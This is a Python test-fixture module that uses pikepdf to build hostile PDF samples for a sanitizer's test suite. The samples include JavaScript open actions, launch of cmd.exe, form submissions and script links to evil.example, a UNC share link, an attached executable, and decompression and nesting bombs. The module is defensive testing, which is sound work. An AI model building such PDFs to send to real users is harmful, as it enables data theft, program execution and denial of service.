"""PDF documents: with what runs, what hides and what tells; and one that only links."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.assets.corpus.hostile_pictures import archive
from tests.assets.corpus.making import disarmed, exif, refused, saved, scene, valid

TYPE = "application/pdf"


def document(
    change: Callable[[pikepdf.Pdf], None] | None = None,
    *,
    pages: int = 1,
    content: bytes | None = None,
    **options: object,
) -> bytes:
    """Pages of one line of text each, or of the given content; `change` may do anything to them."""
    with pikepdf.new() as made:
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for number in range(pages):
            page = made.add_blank_page(page_size=(300, 200))
            page.Resources = Dictionary(Font=Dictionary(F1=font))
            words = content or f"BT /F1 18 Tf 40 100 Td (Page {number + 1} of Ruritania) Tj ET".encode()
            page.Contents = made.make_stream(words)
        if change is not None:
            change(made)
        buffer = io.BytesIO()
        made.save(buffer, static_id=True, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def annotated(*annotations: Dictionary) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array([made.make_indirect(annotation) for annotation in annotations])

    return document(change)


def annotation(subtype: str, **more: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[40, 90, 200, 120], **more)


@valid(TYPE, name="report.pdf")
def pdf_with_links_to_a_page_and_to_the_web() -> bytes:
    return annotated(
        annotation("Link", A=action("URI", URI="https://ruritania.example/")),
        annotation("Link", Dest=Array([0, Name.Fit])),
    )


@disarmed(TYPE, name="script.pdf", changed={"scripts", "actions"})
def pdf_that_runs_a_script_when_it_opens() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(action("JavaScript", JS="app.alert(1)"))
        names = Array(["one", made.make_indirect(action("JavaScript", JS="app.launchURL('https://evil.example')"))])
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))

    return document(change)


@disarmed(TYPE, name="launch.pdf", changed={"actions"})
def pdf_whose_bookmark_launches_a_program() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        outlines = made.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        item = Dictionary(Title="Read me", Parent=outlines, A=action("Launch", F="cmd.exe"))
        outlines.First = outlines.Last = made.make_indirect(item)
        made.Root.Outlines = outlines

    return document(change)


@disarmed(TYPE, name="form.pdf", changed={"forms", "actions"})
def pdf_with_a_form_that_submits() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        button = annotation("Widget", FT=Name.Btn, T="send", A=action("SubmitForm", F="https://evil.example/"))
        made.pages[0].Annots = Array([made.make_indirect(button)])
        made.Root.AcroForm = Dictionary(Fields=Array(list(made.pages[0].Annots)), XFA="<xdp:xdp/>")
        made.pages[0].AA = Dictionary(O=action("SubmitForm", F="https://evil.example/"))

    return document(change)


@disarmed(TYPE, name="attached.pdf", changed={"attachments"})
def pdf_with_a_program_attached() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["tool.exe"] = b"MZ" + bytes(200)

    return document(change)


@disarmed(TYPE, name="commented.pdf", changed={"comments", "attachments"})
def pdf_with_comments_and_a_file_pinned_to_them() -> bytes:
    return annotated(
        annotation("Text", Contents="Do not tell the press.", T="Black Michael"),
        annotation("FileAttachment", FS=Dictionary(Type=Name.Filespec, F="plan.doc", EF=Dictionary())),
    )


@disarmed(TYPE, name="links.pdf", changed={"actions"})
def pdf_with_links_that_run_scripts_and_files() -> bytes:
    return annotated(
        annotation("Link", A=action("URI", URI="javascript:alert(1)")),
        annotation("Link", A=action("GoToR", F="\\\\evil\\share")),
        annotation("Link", A=action("URI", URI="https://ok.example", Next=action("JavaScript", JS="1"))),
    )


@disarmed(TYPE, name="told.pdf", changed={"metadata"})
def pdf_with_metadata_and_a_photograph_from_zenda() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.docinfo["/Author"] = "Black Michael"
        made.Root.Metadata = made.make_stream(b"<x:xmpmeta>Black Michael</x:xmpmeta>", Type=Name.Metadata)
        photograph = made.make_stream(saved(scene(), "JPEG", exif=exif()))
        photograph.update(_image())
        photograph.Filter = Name.DCTDecode
        made.pages[0].Resources.XObject = Dictionary(Im0=photograph)
        made.pages[0].Contents = made.make_stream(b"q 96 0 0 64 40 40 cm /Im0 Do Q")

    return document(change)


def _image() -> Dictionary:
    return Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=96, Height=64, ColorSpace=Name.DeviceRGB, BitsPerComponent=8
    )


@disarmed(TYPE, name="archive.pdf")
def pdf_with_an_archive_behind_it() -> bytes:
    return document() + archive()


@disarmed(TYPE, name="covered.pdf")
def pdf_with_words_under_a_black_box() -> bytes:
    return document(content=b"BT /F1 18 Tf 40 100 Td (The secret of Zenda) Tj ET 0 g 30 90 250 30 re f", pages=1)


@refused("pages_out_of_range", name="long.pdf", says="2000")
def pdf_of_10000_pages() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        page = made.make_indirect(Dictionary(Type=Name.Page, MediaBox=[0, 0, 9, 9], Parent=made.Root.Pages))
        made.Root.Pages.Kids = Array([page] * 10_000)
        made.Root.Pages.Count = 10_000

    return document(change)


@refused("pages_out_of_range", name="empty.pdf")
def pdf_without_pages() -> bytes:
    return document(pages=0)


@refused("encrypted", name="locked.pdf")
def pdf_with_a_password() -> bytes:
    return document(encryption=pikepdf.Encryption(owner="owner", user="user"))


@refused("encrypted", name="restricted.pdf")
def pdf_that_opens_and_forbids_everything_else() -> bytes:
    return document(encryption=pikepdf.Encryption(owner="owner", user=""))


@refused("damaged", name="ring.pdf")
def pdf_whose_page_tree_contains_itself() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.Pages.Kids = Array([made.Root.Pages])

    return _broken_tree(change)


def _broken_tree(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    plain = document()
    at = plain.index(b"/Kids [")
    end = plain.index(b"]", at)
    own = plain[: plain.rindex(b" 0 obj", 0, at)].rsplit(b"\n", 1)[-1]
    kids = b"/Kids [ " + own + b" 0 R"
    return plain[:at] + kids.ljust(end - at) + plain[end:]


@refused("too_much_memory", name="bomb.pdf", says="512")
def pdf_whose_page_unpacks_to_600_megabytes() -> bytes:
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _megabyte in range(600)) + packer.flush()

    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        stream.write(packed, filter=Name.FlateDecode)
        made.pages[0].Contents = stream

    return document(change)


@disarmed(TYPE, name="vast.pdf", size=None)
def pdf_with_a_page_of_a_kilometre() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].MediaBox = Array([0, 0, 2_834_645, 2_834_645])

    return document(change)


@refused("damaged", name="noise.pdf")
def pdf_of_noise() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 50


@refused("damaged", name="cut.pdf")
def pdf_cut_in_the_middle() -> bytes:
    data = document(pages=30)
    return data[: len(data) // 3]


@refused("damaged", name="deep.pdf")
def pdf_of_100000_nested_arrays() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
